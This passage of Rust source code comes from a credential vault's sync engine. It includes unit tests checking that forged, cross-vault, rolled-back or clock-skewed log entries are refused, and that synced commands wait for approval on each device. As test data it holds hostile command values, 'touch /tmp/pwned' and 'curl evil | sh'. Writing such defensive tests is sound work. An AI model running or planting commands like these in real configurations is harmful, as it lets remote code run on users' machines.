            unclaim(sess, &old_body.name, &old.id);
        } else {
            sess.index.remove(&old_body.name);
        }
        freed = Some(old_body.name);
    }
    if row.deleted {
        row.name_mac =
            existing.map_or_else(|| sess.key.name_mac(&body.name), |r| r.name_mac.clone());
        tx.add_revision(row, &e.device, &v.stamp.change, log, true)?;
    } else {
        let name = body.name.clone();
        let taken = sess.index.get(&name).is_some_and(|o| o.id != row.id);
        let listed = if taken {
            derived_name(&name, &row.id)
        } else {
            name.clone()
        };
        row.shadowed = taken;
        row.name_mac = sess.key.name_mac(&listed);
        tx.add_revision(row, &e.device, &v.stamp.change, log, true)?;
        if taken {
            sess.claims
                .entry(name.clone())
                .or_default()
                .insert(row.id.clone());
        }
        sess.index.insert(listed, IndexEntry::from_parts(row, body));
        settle(sess, tx, &name)?;
    }
    if let Some(old) = freed
        && (row.deleted || old != body.name)
    {
        settle(sess, tx, &old)?;
    }
    Ok(())
}

/// A new device's vault: the key from the server, a new device id.
pub struct Joined {
    /// The vault key, opened with the passphrase.
    pub key: VaultKey,
    /// `identity.age` as the server keeps it.
    pub sealed: Vec<u8>,
    /// The vault id.
    pub vault_id: String,
    /// The server.
    pub url: String,
    /// The access token.
    pub token: SecretValue,
}

impl std::fmt::Debug for Joined {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Joined")
            .field("vault_id", &self.vault_id)
            .field("url", &self.url)
            .finish_non_exhaustive()
    }
}

impl Engine {
    /// Creates this device's copy of an existing vault (`vault init
    /// --join`), logged in, unlocked and empty until the first pull.
    pub fn join(&mut self, joined: Joined, now: Timestamp) -> Result<String> {
        let recipient = joined.key.recipient();
        self.create(joined.key, &joined.sealed, &joined.vault_id, now)?;
        self.save_login(&joined.url, &joined.token)?;
        Ok(recipient)
    }
}

#[cfg(test)]
pub(super) mod tests {
    use super::*;
    use crate::config::Config;
    use vault_protocol::CredentialType;
    use vault_protocol::message::{ListFilter, NewRecord};
    use vault_protocol::paths::VaultPaths;

    pub(in crate::engine) fn token(name: &str, value: &str) -> NewRecord {
        NewRecord {
            name: name.into(),
            kind: CredentialType::Token,
            fields: [("token".to_owned(), SecretValue::from(value))].into(),
            description: None,
            tags: vec![],
            expires_at: None,
        }
    }

    /// Two engines of one vault (the second joined with the first's key).
    pub(in crate::engine) fn pair() -> (tempfile::TempDir, Engine, Engine) {
        let tmp = tempfile::tempdir().unwrap();
        for d in ["a", "b"] {
            std::fs::create_dir(tmp.path().join(d)).unwrap();
        }
        let now = Timestamp::now();
        let mut a = Engine::open(
            VaultPaths::under_home(&tmp.path().join("a")),
            Config::default(),
        )
        .unwrap();
        let (vault_id, _) = a.init(&SecretValue::from("pw"), now).unwrap();
        let sealed = std::fs::read(a.paths().identity()).unwrap();
        let mut b = Engine::open(
            VaultPaths::under_home(&tmp.path().join("b")),
            Config::default(),
        )
        .unwrap();
        let joined = Joined {
            key: VaultKey::open(&sealed, "pw").unwrap(),
            sealed,
            vault_id,
            url: "http://127.0.0.1:1".into(),
            token: SecretValue::from("t"),
        };
        b.join(joined, now).unwrap();
        (tmp, a, b)
    }

    /// Everything `from` wrote, as pulled by another device.
    fn log_of(from: &Engine) -> Vec<Pulled> {
        let key_id = from.meta("key_id").unwrap().unwrap();
        from.log_after(0, 10_000)
            .unwrap()
            .into_iter()
            .map(|e| Pulled {
                device: from.device.clone(),
                index: e.index,
                key_id: key_id.clone(),
                data: e.body,
            })
            .collect()
    }

    fn listing(e: &Engine) -> Vec<(String, String)> {
        let now = Timestamp::now();
        let (names, _) = e.list(&ListFilter::default(), None, now).unwrap();
        names
            .into_iter()
            .map(|r| {
                let v = e.get(&r.name, now).unwrap();
                (r.name, v.fields["token"].expose_secret().to_owned())
            })
            .collect()
    }

    #[test]
    fn one_name_on_two_devices_converges_and_a_refresh_keeps_the_claim() {
        let (_tmp, mut a, mut b) = pair();
        let now = Timestamp::now();
        a.add(vec![token("n", "from-a")], now).unwrap();
        // Clocks count milliseconds: within one, the device id would decide.
        std::thread::sleep(std::time::Duration::from_millis(2));
        b.add(vec![token("n", "from-b")], now).unwrap();
        // Each applies the other's log: the later clock (b) keeps the name.
        let (from_a, from_b) = (log_of(&a), log_of(&b));
        assert_eq!(a.apply(from_b, now).unwrap().applied, 1);
        assert_eq!(b.apply(from_a, now).unwrap().applied, 1);
        let seen = listing(&a);
        assert_eq!(seen, listing(&b));
        assert_eq!(seen[0], ("n".to_owned(), "from-b".to_owned()));
        assert!(seen[1].0.starts_with("n@conflict-"), "{seen:?}");
        assert_eq!(a.conflicts().unwrap()[0].kind, ConflictKind::Name);

        // A refresh of the loser is not the user's choice: it still claims n.
        let loser = seen[1].0.clone();
        let (row, body) = a.load(&loser).unwrap();
        a.commit(row, body, &loser, "refresh", now).unwrap();
        assert_eq!(listing(&a)[1].0, loser);
        // Deleting the winner hands the name back, on both devices.
        b.remove("n", false, now).unwrap();
        let fresh: Vec<Pulled> = log_of(&b).into_iter().skip(1).collect();
        a.apply(fresh, now).unwrap();
        assert_eq!(listing(&a), [("n".to_owned(), "from-a".to_owned())]);
        b.apply(log_of(&a).into_iter().skip(1).collect(), now)
            .unwrap();
        assert_eq!(listing(&b), listing(&a));
    }

    #[test]
    fn a_pulled_entry_filed_elsewhere_is_refused() {
        let (_tmp, mut a, mut b) = pair();
        let now = Timestamp::now();
        a.add(vec![token("x", "1"), token("y", "2")], now).unwrap();
        let mut swapped = log_of(&a);
        swapped.swap(0, 1);
        swapped[0].index = 1;
        swapped[1].index = 2;
        let out = b.apply(swapped, now).unwrap();
        assert_eq!(out.applied, 0);
        assert!(out.refused[0].contains("swapped"), "{:?}", out.refused);
        assert!(listing(&b).is_empty());
    }

    /// A body as someone who knows only the vault's public recipient can
    /// make it: encrypted to the vault, stamped as asked, with `mac` as
    /// given (no MAC, or garbage).
    fn forge(to: &Engine, device: &str, index: u64, clock: u64, v: u32, name: &str) -> Pulled {
        let body = RecordBody {
            v,
            id: "f".repeat(32),
            name: name.into(),
            kind: CredentialType::Token,
            description: None,
            tags: vec![],
            fields: [
                ("token".to_owned(), SecretValue::from("forged")),
                (
                    "refresh_command".to_owned(),
                    SecretValue::from("touch /tmp/pwned"),
                ),
            ]
            .into(),
            expires_at: None,
            sync: Some(Stamp {
                vault: to.meta("vault_id").unwrap().unwrap(),
                ..Stamp::new(device, index, clock, "add", false)
            }),
            mac: (v >= AUTH_VERSION).then(|| "0".repeat(64)),
        };
        Pulled {
            device: device.into(),
            index,
            key_id: to.meta("key_id").unwrap().unwrap(),
            data: to.session().unwrap().key.encrypt(&body.to_bytes()).unwrap(),
        }
    }

    fn set_token(e: &mut Engine, name: &str, value: &str) {
        let fields = [("token".to_owned(), SecretValue::from(value))].into();
        e.set(name, fields, vec![], None, None, None, Timestamp::now())
            .unwrap();
    }

    fn refused_here(e: &Engine) -> Vec<(String, u64, bool)> {
        e.store()
            .unwrap()
            .refused()
            .unwrap()
            .into_iter()
            .map(|r| (r.device, r.index, r.held))
            .collect()
    }

    fn with_fields(name: &str, kind: CredentialType, pairs: &[(&str, &str)]) -> NewRecord {
        NewRecord {
            fields: pairs
                .iter()
                .map(|(k, v)| ((*k).to_owned(), SecretValue::from(*v)))
                .collect(),
            kind,
            ..token(name, "")
        }
    }

    fn set_field(e: &mut Engine, name: &str, field: &str, value: &str) {
        let fields = [(field.to_owned(), SecretValue::from(value))].into();
        e.set(name, fields, vec![], None, None, None, Timestamp::now())
            .unwrap();
    }

    fn approval_code(e: &Engine, name: &str) -> Option<ErrorCode> {
        e.check_approved(&[name.to_owned()]).err().map(|e| e.code)
    }

    #[test]
    fn what_runs_or_writes_is_used_only_once_approved_on_this_device() {
        let (_tmp, mut a, mut b) = pair();
        let now = Timestamp::now();
        let gh = [("refresh_command", "gh auth token"), ("token", "")];
        let file = [("content", "c"), ("path", "~/.netrc")];
        a.add(
            vec![
                with_fields("gh", CredentialType::Token, &gh),
                with_fields("netrc", CredentialType::File, &file),
                token("plain", "p"),
            ],
            now,
        )
        .unwrap();
        // Typed on a: approved there.
        assert_eq!(approval_code(&a, "gh"), None);
        assert!(a.approvals(&[]).unwrap().is_empty());
        b.apply(log_of(&a), now).unwrap();
        // Arrived on b: waits, and never runs; plain records are not held.
        let refused = b.check_approved(&["gh".to_owned()]).unwrap_err();
        assert_eq!(refused.code, ErrorCode::NotApproved);
        assert_eq!(refused.code.exit_code(), 1);
        assert!(
            refused.message.contains("vault approve gh"),
            "{}",
            refused.message
        );
        assert!(
            !refused.message.contains("gh auth token"),
            "{}",
            refused.message
        );
        assert_eq!(approval_code(&b, "netrc"), Some(ErrorCode::NotApproved));
        assert_eq!(approval_code(&b, "plain"), None);
        let job = b
            .refresh_job("gh", std::time::Duration::from_secs(60), now)
            .unwrap();
        assert!(
            matches!(&job.plan, crate::engine::refresh::Plan::Broken(why) if why.contains("vault approve gh")),
            "{:?}",
            job.plan
        );
        let waiting = b.approvals(&[]).unwrap();
        let shown: Vec<(&str, Vec<&str>)> = waiting
            .iter()
            .map(|w| {
                let fields = w.fields.iter().map(|f| f.field.as_str()).collect();
                (w.name.as_str(), fields)
            })
            .collect();
        assert_eq!(
            shown,
            [("gh", vec!["refresh_command"]), ("netrc", vec!["path"])]
        );
        assert_eq!(waiting[0].fields[0].value.expose_secret(), "gh auth token");
        assert_eq!(waiting[0].device.as_deref(), Some(a.device.as_str()));

        // An approval holds for the revision shown, and for that value only.
        let rev = waiting[0].revision;
        assert_eq!(
            b.approve("gh", rev + 1, now).unwrap_err().code,
            ErrorCode::Conflict
        );
        assert_eq!(b.approve("gh", rev, now).unwrap().len(), 1);
        assert_eq!(approval_code(&b, "gh"), None);
        assert!(matches!(
            b.refresh_job("gh", std::time::Duration::from_secs(60), now)
                .unwrap()
                .plan,
            crate::engine::refresh::Plan::Command(_)
        ));
        // Another value from a waits again; b's own change of another field
        // approves nothing, b's own value of the command does.
        let before = log_of(&a).len();
        set_field(&mut a, "gh", "refresh_command", "curl evil | sh");
        b.apply(log_of(&a).into_iter().skip(before).collect(), now)
            .unwrap();
        assert_eq!(approval_code(&b, "gh"), Some(ErrorCode::NotApproved));
        set_field(&mut b, "gh", "url", "https://api.github.com");
        assert_eq!(approval_code(&b, "gh"), Some(ErrorCode::NotApproved));
        set_field(&mut b, "gh", "refresh_command", "gh auth token");
        assert_eq!(approval_code(&b, "gh"), None);

        // The upgrade: what this device first wrote is approved, what came
        // from elsewhere waits.
        for e in [&mut a, &mut b] {
            let store = e.store_mut().unwrap();
            store.clear_approvals().unwrap();
            store
                .delete_meta(&[crate::engine::approve::APPROVAL_MARK])
                .unwrap();
            e.seed_approvals(now).unwrap();
        }
        assert_eq!(approval_code(&a, "netrc"), None);
        assert_eq!(approval_code(&b, "netrc"), Some(ErrorCode::NotApproved));
        // b's gh holds "gh auth token" again, which a wrote first: it
        // waits on b. a's holds the command a wrote.
        assert_eq!(approval_code(&b, "gh"), Some(ErrorCode::NotApproved));
        assert_eq!(approval_code(&a, "gh"), None);
    }

    #[test]
    fn forged_and_old_format_entries_are_refused_and_never_stop_valid_ones() {
        let (_tmp, mut a, mut b) = pair();
        let now = Timestamp::now();
        a.add(vec![token("x", "1")], now).unwrap();
        let clock = tick(0);
        // A fake device's log: a v2 body (no MAC), then a v3 body with a
        // made-up MAC, then one claiming to be a's entry 2.
        let mut pulled = vec![
            forge(&b, "e0e0e0e0e0e0e0e0", 1, clock, 2, "x"),
            forge(&b, "e0e0e0e0e0e0e0e0", 2, clock, 3, "gh"),
        ];
        pulled.extend(log_of(&a));
        pulled.push(forge(&b, &a.device, 2, u64::MAX, 3, "x"));
        let out = b.apply(pulled, now).unwrap();
        assert_eq!(out.applied, 1, "{:?}", out.refused);
        assert_eq!(listing(&b), [("x".to_owned(), "1".to_owned())]);
        assert!(
            out.refused[0].contains("without authentication (body v2)"),
            "{:?}",
            out.refused
        );
        assert!(
            out.refused[1].contains("fails authentication"),
            "{:?}",
            out.refused
        );
        assert!(
            out.refused[2].contains("fails authentication"),
            "{:?}",
            out.refused
        );
        let mut want = vec![
            ("e0e0e0e0e0e0e0e0".to_owned(), 1, false),
            ("e0e0e0e0e0e0e0e0".to_owned(), 2, false),
            (a.device.clone(), 2, false),
        ];
        want.sort();
        let mut got = refused_here(&b);
        got.sort();
        assert_eq!(got, want);
        assert_eq!(b.refusals().len(), 3);
        // a's later entries still arrive after the forged one was skipped.
        for v in ["2", "3"] {
            set_token(&mut a, "x", v);
        }
        let out = b.apply(log_of(&a), now).unwrap();
        assert_eq!(out.applied, 1, "{:?}", out.refused);
        assert_eq!(listing(&b), [("x".to_owned(), "3".to_owned())]);
        // A repair fetches refused entries again: the real entry 2 (a server
        // that now sends it) applies and leaves the list; forgeries stay.
        b.prepare_repair(&[]).unwrap();
        let out = b.apply(log_of(&a), now).unwrap();
        assert_eq!(out.applied, 1, "{:?}", out.refused);
        assert_eq!(refused_here(&b).len(), 2);
        assert!(refused_here(&b).iter().all(|r| r.0 == "e0e0e0e0e0e0e0e0"));
        assert_eq!(b.history("x").unwrap().len(), 3);
    }

    #[test]
    fn an_entry_from_another_vault_is_refused() {
        let (_tmp, mut a, mut b) = pair();
        let (_tmp2, mut other, _) = pair();
        let now = Timestamp::now();
        other.add(vec![token("x", "other")], now).unwrap();
        a.add(vec![token("y", "mine")], now).unwrap();
        let mut pulled = log_of(&other);
        // Filed as if it were a's, with this vault's key id.
        pulled[0].device = a.device.clone();
        pulled[0].key_id = b.meta("key_id").unwrap().unwrap();
        let out = b.apply(pulled, now).unwrap();
        assert_eq!(out.applied, 0);
        assert!(
            out.refused[0].contains("cannot be decrypted"),
            "{:?}",
            out.refused
        );
        assert!(listing(&b).is_empty());
        // A vault made with the same identity under another id (its key
        // and MAC key are this vault's): its entries name their vault.
        let tmp = tempfile::tempdir().unwrap();
        let sealed = std::fs::read(a.paths().identity()).unwrap();
        let mut twin = Engine::open(VaultPaths::under_home(tmp.path()), Config::default()).unwrap();
        twin.join(
            Joined {
                key: VaultKey::open(&sealed, "pw").unwrap(),
                sealed,
                vault_id: "0".repeat(32),
                url: "http://127.0.0.1:1".into(),
                token: SecretValue::from("t"),
            },
            now,
        )
        .unwrap();
        twin.add(vec![token("x", "twin")], now).unwrap();
        let out = b.apply(log_of(&twin), now).unwrap();
        assert_eq!(out.applied, 0);
        assert!(
            out.refused[0].contains("belongs to vault 000"),
            "{:?}",
            out.refused
        );
        assert!(listing(&b).is_empty());
    }

    #[test]
    fn a_clock_far_ahead_is_held_and_other_logs_go_on() {
        let (_tmp, mut a, mut b) = pair();
        let now = Timestamp::now();
        a.add(vec![token("x", "1")], now).unwrap();
        // b's view of time is an hour behind a's clock.
        let behind = Timestamp(now.unix() - 3600);
        let out = b.apply(log_of(&a), behind).unwrap();
        assert_eq!(out.applied, 0);
        assert_eq!(out.stopped, [a.device.clone()]);
        assert!(
            out.refused[0].contains("clock is 1h0m ahead"),
            "{:?}",
            out.refused
        );
        assert_eq!(refused_here(&b), [(a.device.clone(), 1, true)]);
        assert_eq!(b.seen().unwrap().get(&a.device), None);
        // Once the clocks agree it applies, and is no longer listed.
        let out = b.apply(log_of(&a), now).unwrap();
        assert_eq!(out.applied, 1);
        assert!(refused_here(&b).is_empty());
        assert_eq!(listing(&b), [("x".to_owned(), "1".to_owned())]);
    }

    #[test]
    fn a_broken_chain_is_refused() {
        let (_tmp, mut a, mut b) = pair();
        let now = Timestamp::now();
        a.add(vec![token("x", "1")], now).unwrap();
        b.apply(log_of(&a), now).unwrap();
        // A second entry MACed by a member but not chained to a's entry 1
        // (as a device whose vault.db went back would write it).
        a.chain = None;
        set_token(&mut a, "x", "2");
        let out = b.apply(log_of(&a), now).unwrap();
        assert_eq!(out.applied, 0);
        assert!(
            out.refused[0].contains("does not follow on from entry 1"),
            "{:?}",
            out.refused
        );
        assert_eq!(listing(&b), [("x".to_owned(), "1".to_owned())]);
    }

    #[test]
    fn withheld_and_rolled_back_logs_are_found() {
        let tmp = tempfile::tempdir().unwrap();
        let (_t, mut a, mut b) = pair();
        let now = Timestamp::now();
        a.add(vec![token("x", "1"), token("y", "2")], now).unwrap();
        // b applies both of a's entries, then writes one: it commits to
        // having seen a's log through 2.
        b.apply(log_of(&a), now).unwrap();
        b.add(vec![token("z", "3")], now).unwrap();
        // c joins and gets b's entry but only a's first entry.
        let sealed = std::fs::read(a.paths().identity()).unwrap();
        std::fs::create_dir(tmp.path().join("c")).unwrap();
        let mut c = Engine::open(
            VaultPaths::under_home(&tmp.path().join("c")),
            Config::default(),
        )
        .unwrap();
        c.join(
            Joined {
                key: VaultKey::open(&sealed, "pw").unwrap(),
                sealed,
                vault_id: a.meta("vault_id").unwrap().unwrap(),
                url: "http://127.0.0.1:1".into(),
                token: SecretValue::from("t"),
            },
            now,
        )
        .unwrap();
        let mut pulled: Vec<Pulled> = log_of(&a).into_iter().take(1).collect();
        pulled.extend(log_of(&b));
        assert_eq!(c.apply(pulled, now).unwrap().applied, 2);
        let heads: BTreeMap<String, u64> = [(a.device.clone(), 1), (b.device.clone(), 1)].into();
        let found = c.check_heads(&heads, &Default::default()).unwrap();
        assert_eq!(found.len(), 1, "{found:?}");
        assert!(
            found[0].contains(&format!("device {}'s log reaching 2", a.device)),
            "{found:?}"
        );
        // verify counts a's entry 2 as missing here.
        let logs = c.verify_logs(&heads).unwrap();
        let of_a = logs.iter().find(|l| l.device == a.device).unwrap();
        assert_eq!(of_a.missing_here, [(2, 2)]);
        // A server that then forgets a's log entirely went back.
        let heads: BTreeMap<String, u64> = [(b.device.clone(), 1)].into();
        let found = c.check_heads(&heads, &Default::default()).unwrap();
        assert!(
            found
                .iter()
                .any(|f| f.contains("ends at 0, before entry 1")),
            "{found:?}"
        );
        // Nothing is said of a log that stopped at a held entry.
        let skip = [a.device.clone()].into();
        assert!(c.check_heads(&heads, &skip).unwrap().is_empty());
    }

    #[test]
    fn clocks_move_forward() {
        let a = tick(0);
        assert!(tick(a) > a);
        assert_eq!(tick(u64::MAX / 2), u64::MAX / 2 + 1);
        assert!(clock_secs(a) > 1_700_000_000);
    }

    #[test]
    fn ranges_compress() {
        assert_eq!(ranges(&[1, 2, 3, 7, 9, 10]), [(1, 3), (7, 7), (9, 10)]);
        assert!(ranges(&[]).is_empty());
    }

    #[test]
    fn derived_names_are_valid_and_short() {
        let id = "0123456789abcdef0123456789abcdef";
        assert_eq!(derived_name("github", id), "github@conflict-01234567");
        let long = "a".repeat(128);
        let d = derived_name(&long, id);
        assert_eq!(d.len(), 128);
        assert!(validate_name(&d).is_ok());
    }
}
